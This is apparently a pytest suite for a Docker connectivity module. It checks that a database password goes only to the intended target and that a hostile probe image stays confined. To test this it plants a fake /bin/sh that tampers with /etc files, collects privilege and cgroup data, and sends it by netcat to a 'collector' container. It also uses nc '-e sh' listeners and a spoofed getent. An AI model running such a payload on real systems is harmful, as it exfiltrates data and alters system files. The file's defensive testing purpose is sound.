# Copyright (c) The linklab.docker maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Servers and images that others made, which want the password of a login: it goes to the target or nowhere."""

from __future__ import annotations

import io
import tarfile
import typing as t

import pytest

if t.TYPE_CHECKING:
    from collections.abc import Callable, Iterator

Json = t.Any

LOGIN = {"protocol": "mysql", "login": {"password": "root"}, "timeout": 0}
# A shell that takes what it can get, sends it to whoever collects it, and then is a shell.
SHELL = """#!/bin/busybox sh
{
    for file in hosts hostname resolv.conf; do
        (echo "192.0.2.66 bank" >>/etc/$file) 2>/dev/null && echo "wrote $file"
    done
    (echo x >/bin/x) 2>/dev/null && echo "wrote /bin"
    id -u
    grep -E 'Cap(Eff|Bnd|Prm)|NoNewPrivs' /proc/self/status
    cat /sys/fs/cgroup/memory/memory.limit_in_bytes /sys/fs/cgroup/memory.max 2>/dev/null
    cat /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/pids.max 2>/dev/null
} >/tmp/loot
/bin/busybox nc -w 2 collector 99 </tmp/loot
exec /bin/busybox sh "$@"
"""


def trap_on(port: int) -> tuple[str, ...]:
    """The command of a server that remembers whether anybody connected."""
    return ("nc", "-ll", "-p", str(port), "-e", "sh", "-c", "echo connected >>/tmp/seen; sleep 2")


@pytest.fixture
def net(lab: Json) -> str:
    return str(lab.network("net"))


@pytest.fixture
def hostile(lab: Json, net: str) -> Iterator[str]:
    """An image whose shell is not what it seems; what it finds goes to a container called C(collector)."""
    lab.run(
        "collector",
        "nc",
        "-ll",
        "-p",
        "99",
        "-e",
        "sh",
        "-c",
        "cat >>/tmp/loot",
        networks={net: {"Aliases": ["collector"]}},
    )
    box = lab.run("made", start=False)
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        member = tarfile.TarInfo("sh")
        member.size, member.mode = len(SHELL), 0o755
        tar.addfile(member, io.BytesIO(SHELL.encode()))
    lab.engine.request("PUT", f"/containers/{box}/archive", params={"path": "/bin"}, data=packed.getvalue())
    image = lab.name("hostile")
    lab.engine.request("POST", "/commit", params={"container": box, "repo": image}, body={})
    yield image
    lab.clear()
    lab.engine.delete(f"/images/{image}", force="1")


def loot(lab: Json) -> str:
    return str(lab.exec(lab.name("collector"), "cat", "/tmp/loot")[1])


def is_untouched(lab: Json, trap: str) -> bool:
    return lab.exec(trap, "test", "-e", "/tmp/seen")[0] != 0


def with_alias(lab: Json, net: str, trap: str) -> dict[str, Json]:
    """Both have the name."""
    lab.engine.disconnect(net, trap)
    lab.connect(net, trap, Aliases=["db"])
    lab.engine.disconnect(net, lab.name("database"))
    lab.connect(net, lab.name("database"), Aliases=["db"])
    return {"host": "db"}


def with_the_name(lab: Json, net: str, trap: str) -> dict[str, Json]:
    """The alias is the target's own name."""
    lab.engine.disconnect(net, trap)
    lab.connect(net, trap, Aliases=[lab.name("database")])
    return {}


def by_address(lab: Json, net: str, trap: str) -> dict[str, Json]:
    return {"host": lab.inspect(trap)["NetworkSettings"]["Networks"][net]["IPAddress"]}


@pytest.mark.parametrize("lead_astray", [with_alias, with_the_name, by_address])
def test_no_connection_for_a_login_to_anybody_but_the_target(
    lead_astray: Callable[..., dict[str, Json]], lab: Json, net: str, mysql_image: str, module: Json
) -> None:
    lab.run("database", networks=[net])
    trap = lab.run("trap", *trap_on(3306), networks=[net])
    client = lab.run("client", "sleep", "1000", image=mysql_image, networks=[net])
    host = lead_astray(lab, net, trap)
    task = {"source": client, "target": lab.name("database"), **LOGIN, **host}
    result = module("connectivity", task, fails=True)
    assert result["diagnosis"]["cause"] in ("alias_shared", "resolves_elsewhere")
    assert is_untouched(lab, trap)
    # Without a login, that address may be tried.
    module("connectivity", {**task, "protocol": "tcp"}, fails=True)


def test_a_published_port_is_no_licence_to_follow_a_name(lab: Json, net: str, mysql_image: str, module: Json) -> None:
    """Where the target's port is published, a host may be the machine itself, or a name that leads there."""
    apart = lab.network("apart")
    publish = {"PortBindings": {"3306/tcp": [{"HostPort": ""}]}}
    database = lab.run("database", *trap_on(3306), networks=[apart], host=publish, ExposedPorts={"3306/tcp": {}})
    (binding, *_rest) = lab.inspect(database)["NetworkSettings"]["Ports"]["3306/tcp"]
    port = int(binding["HostPort"])
    trap = lab.run("trap", *trap_on(port), networks=[net])
    found = lab.inspect(trap)["NetworkSettings"]["Networks"][net]
    extra = {"ExtraHosts": [f"db:{found['IPAddress']}", f"machine:{found['Gateway']}"]}
    client = lab.run("client", "sleep", "1000", image=mysql_image, networks=[net], host=extra)
    task = {"source": client, "target": database, **LOGIN, "port": port}
    for host in ("db", found["IPAddress"]):
        result = module("connectivity", {**task, "host": host}, fails=True)
        assert result["diagnosis"]["cause"] in ("resolves_elsewhere", "hosts_entry_shadows"), result["msg"]
    assert is_untouched(lab, trap)
    for host in ("machine", found["Gateway"]):
        assert module("connectivity", {**task, "host": host}, fails=True)["diagnosis"]["cause"] == "not_mysql"


def test_a_name_is_not_resolved_twice(lab: Json, mysql_image: str, mysql_server: str, module: Json) -> None:
    """What resolves to the target for the comparison, and to somebody else for the client program."""
    net, found = next(iter(lab.inspect(mysql_server)["NetworkSettings"]["Networks"].items()))
    trap = lab.run("trap", *trap_on(3306), networks=[net])
    there = lab.inspect(trap)["NetworkSettings"]["Networks"][net]["IPAddress"]
    extra = {"ExtraHosts": [f"db:{there}"]}
    client = lab.run("client", "sleep", "1000", image=mysql_image, networks=[net], host=extra)
    script = f"printf '#!/bin/sh\\necho {found['IPAddress']} STREAM db\\n' >/usr/bin/getent"
    assert lab.exec(client, "sh", "-c", script)[0] == 0
    result = module("connectivity", {"source": client, "target": mysql_server, **LOGIN, "host": "db"})
    assert result["mysql"]["hostname"] == lab.inspect(mysql_server)["Config"]["Hostname"]
    assert is_untouched(lab, trap)


def test_a_targets_image_gets_no_password(lab: Json, net: str, hostile: str, module: Json) -> None:
    client = lab.run("client", networks=[net])
    target = lab.run("target", "sleep", "1000", image=hostile, networks=[net])
    result = module("connectivity", {"source": client, "target": target, **LOGIN}, fails=True)
    assert result["diagnosis"]["cause"] == "no_probe_tool"
    assert f"probe_image: {hostile}" in result["diagnosis"]["task"]
    assert "No such file" in loot(lab)


def test_a_targets_image_can_do_nothing_next_to_the_source(lab: Json, net: str, hostile: str, module: Json) -> None:
    client = lab.run("client", networks=[net])
    target = lab.run("target", "/bin/busybox", "nc", "-ll", "-p", "80", "-e", "cat", image=hostile, networks=[net])
    hosts = lab.exec(client, "cat", "/etc/hosts")[1]
    # The source and its image have no shell that works.
    assert lab.exec(client, "rm", "/bin/sh")[0] == 0
    base = lab.inspect(client)["Config"]["Image"]
    task = {"source": client, "target": target, "protocol": "tcp", "port": 80, "timeout": 0}
    # Its own image is asked first.
    assert module("connectivity", task)["probe"] == {
        "where": "helper",
        "image": base,
        "tools": {"name": "nslookup", "tcp": "nc"},
    }
    assert "No such file" in loot(lab)
    assert module("connectivity", {**task, "probe_image": hostile})["probe"]["image"] == hostile
    seen = loot(lab).split()
    assert "wrote" not in seen
    assert lab.exec(client, "cat", "/etc/hosts")[1] == hosts
    user, *facts = seen
    assert user not in ("0", "")
    words = dict(zip(facts[:8:2], facts[1:8:2]))
    assert words == {"CapPrm:": "0" * 16, "CapEff:": "0" * 16, "CapBnd:": "0" * 16, "NoNewPrivs:": "1"}
    memory, processes = facts[8:10]
    assert int(memory) <= 512 * 1024**2
    assert int(processes) <= 100
